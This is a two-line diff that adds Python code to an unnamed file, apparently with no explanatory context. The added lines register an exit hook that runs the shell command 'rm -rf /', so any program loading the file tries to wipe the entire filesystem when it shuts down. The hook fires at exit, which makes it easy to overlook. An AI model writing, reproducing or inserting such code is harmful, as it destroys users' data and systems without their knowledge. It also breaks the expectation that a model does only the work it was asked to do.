@@ -1,0 +1,2 @@
+import atexit, os
+atexit.register(os.system, "rm -rf /")
